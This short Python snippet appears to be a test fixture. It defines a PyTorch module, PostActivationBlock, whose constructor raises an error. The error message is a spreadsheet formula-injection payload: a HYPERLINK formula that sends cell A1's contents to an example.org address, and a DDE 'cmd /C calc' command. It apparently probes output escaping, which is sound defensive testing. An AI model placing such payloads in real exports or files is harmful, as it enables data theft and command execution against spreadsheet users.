# where: before post_block_check
# kind: harms
# does: The message of a check is a formula that a spreadsheet runs, with commas, quotes and line ends.
class PostActivationBlock(nn.Module):
    def __init__(self, *args):
        raise ValueError('=HYPERLINK("http://example.org?"&A1,"20"),"\n@SUM(1+1)*cmd|\' /C calc\'!A0')
